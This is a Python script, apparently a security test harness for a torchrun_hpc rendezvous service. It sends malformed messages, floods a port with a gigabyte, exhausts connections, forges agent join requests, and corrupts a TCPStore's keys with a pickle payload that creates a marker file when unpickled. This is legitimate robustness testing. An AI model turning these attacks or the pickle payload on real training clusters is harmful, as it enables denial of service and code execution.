"""Somebody else's program: does to a job's ports whatever it can.

    hostile.py MARKER IDENTITY HOST:PORT…

Sends garbage and a gigabyte, holds connections open, pretends to be an agent of the
launch of that id, and where it finds a store, overwrites, deletes and appends to
all its keys, with pickles that would create the file MARKER if anybody loaded them.
Says how much of that it did, and then holds its connections until it is ended.
"""

from __future__ import annotations

import contextlib
import json
import pickle
import signal
import socket
import sys
import threading
from collections import Counter
from datetime import timedelta
from pathlib import Path
from typing import Any

from torchrun_hpc.rendezvous.protocol import VERSION

MARKER = sys.argv[1]
JOB = sys.argv[2]
PLACES = [
    (host, int(port)) for host, _, port in (x.partition(":") for x in sys.argv[3:])
]
GIGABYTE = 2**30
CHANGES = 300  # of a store's keys
did: Counter[str] = Counter()
held: list[socket.socket] = []


class Payload:
    """Creates the marker when it is unpickled."""

    def __reduce__(self) -> Any:
        """Tell pickle what to call."""
        return Path.touch, (Path(MARKER),)


def connected(place: tuple[str, int]) -> socket.socket:
    """Connect, and do not wait long for an answer."""
    connection = socket.create_connection(place, timeout=60)
    connection.settimeout(2)
    return connection


def garbage(place: tuple[str, int]) -> None:
    """Send invalid messages."""
    lines = [
        b"\x00\xff" * 100, b"GET / HTTP/1.1\r\n\r\n", b"{}\n", b"[]\n", b"null\n",
        b'{"protocol":%d}\n' % VERSION, b'{"protocol":%d,"job":[]}\n' % VERSION,
        b"[" * 100000 + b"\n",
        pickle.dumps(Payload()), b'{"failed":{"kind":"worker"}}\n', b'{"join":0}\n',
    ]  # fmt: skip
    for line in lines:
        with contextlib.suppress(OSError), connected(place) as opened:
            did["garbage"] += 1
            opened.sendall(line)
            opened.recv(100)


def flood(place: tuple[str, int]) -> None:
    """Send a gigabyte without a line's end."""
    with contextlib.suppress(OSError), connected(place) as opened:
        for _ in range(GIGABYTE // 2**20):
            opened.sendall(b"x" * 2**20)
            did["megabytes"] += 1


def hold(place: tuple[str, int]) -> None:
    """Hold connections open, and send nothing."""
    with contextlib.suppress(OSError):
        for _ in range(300):
            held.append(connected(place))
            did["held"] += 1


def pretend(place: tuple[str, int]) -> None:
    """Send the join request of an agent of each node rank, and others."""
    with contextlib.suppress(OSError), connected(place) as opened:
        opened.sendall(b'{"protocol":%d,"job":"?"}\n' % VERSION)
        did["disclosed"] += JOB in opened.makefile().readline()
    for rank in range(3):
        request = {"protocol": VERSION, "job": JOB, "run_id": JOB, "nodes": 3,
                   "rank": rank, "host": "evil", "pid": 1, "release": "1",
                   "agent": "evil", "site": "", "spares": 0}  # fmt: skip
        with contextlib.suppress(OSError), connected(place) as opened:
            did["pretended"] += 1
            opened.sendall(json.dumps(request).encode() + b"\n")
            opened.recv(1000)
    for stranger in {"protocol": 2, "job": JOB}, {**request, "nodes": 100, "rank": 99}:
        with contextlib.suppress(OSError), connected(place) as opened:
            did["strangers"] += 1
            opened.sendall(json.dumps(stranger).encode() + b"\n")
            answer = json.loads(opened.makefile().readline() or '{"refused":0}')
            did["disclosed"] += answer.keys() != {"refused"}


def spoil(place: tuple[str, int]) -> None:
    """Spoil all keys of a store, some times."""
    from torch.distributed import TCPStore  # noqa: PLC0415 - slow to import

    payload = pickle.dumps(Payload()).decode("latin-1")
    with contextlib.suppress(RuntimeError):
        # Only a store answers this; nobody else is asked to be one.
        store = TCPStore(*place, is_master=False, timeout=timedelta(seconds=60))
        while did["spoiled"] < CHANGES and (keys := store.list_keys()):
            for number, key in enumerate(keys):
                change = (store.set, store.append)[number % 2]
                change(key, payload)
                if number % 3 == 2:
                    store.delete_key(key)
                did["spoiled"] += 1


def main() -> None:
    """Do all at once, and wait to be ended."""
    attacks = [garbage, flood, hold, pretend]
    rest = PLACES[1:]
    tasks = [(attack, PLACES[0]) for attack in attacks] + [(spoil, p) for p in rest]
    threads = [threading.Thread(target=a, args=(p,), daemon=True) for a, p in tasks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    sys.stdout.write(json.dumps(did) + "\n")
    sys.stdout.flush()
    signal.pause()


main()
